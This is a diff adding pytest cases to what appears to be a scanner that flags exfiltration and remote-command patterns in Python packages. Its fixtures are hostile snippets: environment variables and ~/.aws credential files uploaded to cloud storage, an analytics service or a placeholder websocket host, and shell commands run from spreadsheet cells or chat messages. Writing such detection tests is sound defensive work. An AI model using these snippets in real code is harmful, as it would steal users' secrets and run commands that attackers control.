@@ -98,3 +98,43 @@ def test_what_a_server_is_sent_is_known_as_that_and_runs_with_it(way: str) -> No
     facts = wheel_of({"sample/__init__.py": "import os\n" + HEARD[way]})
     found = [call for module in facts.modules for call in module.calls if call.name == "os.system"]
     assert [(call.when, "message" in call.arguments[0].labels) for call in found] == [(When.IMPORT, True)]
+
+
+SERVICES = {
+    "object store": "from azure.storage.blob import BlobClient\nBlobClient.from_connection_string('x').upload_blob(str(os.environ.copy()))",
+    "events": "from posthog import Posthog\nPosthog('x').capture('y', properties=dict(os.environ))",
+    "file of a folder": (
+        "from google.cloud import storage\nfor folder, _, names in os.walk(os.path.expanduser('~/.aws')):\n"
+        "    storage.Client().bucket('x').blob('y').upload_from_filename(os.path.join(folder, names[0]))"
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(SERVICES))
+def test_clients_that_know_their_address_take_what_is_private(name: str) -> None:
+    (call,) = calls("import os\n" + SERVICES[name], SENT)
+    assert {"environment", "credentials"} & {label for one in call.arguments for label in one.labels}
+
+
+def test_a_service_for_events_may_be_told_of_which_machine() -> None:
+    assert calls(HOST + "import sentry_sdk\nsentry_sdk.set_tag('machine', name)", SENT) == []
+
+
+def test_what_is_called_back_on_a_line_may_send() -> None:
+    source = "import os, websocket\ndef greet(line):\n    line.send(str(os.environ.copy()))\n"
+    source += "websocket.WebSocketApp('wss://example.invalid', on_open=greet).run_forever()"
+    (call,) = calls(source, "websocket.create_connection().send")
+    assert (call.when, call.arguments[-1].text) == (When.IMPORT, "wss://example.invalid")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import gspread\nos.system(gspread.oauth().open('x').sheet1.acell('A1').value)",
+        "import zulip\ndef say(told):\n    os.system(told['content'])\nzulip.Client().call_on_each_message(say)",
+    ],
+)
+def test_commands_that_come_by_way_of_a_service(source: str) -> None:
+    (call,) = calls("import os\n" + source, "os.system")
+    assert {"downloaded", "message"} & set(call.arguments[0].labels)
+    assert call.when is When.IMPORT
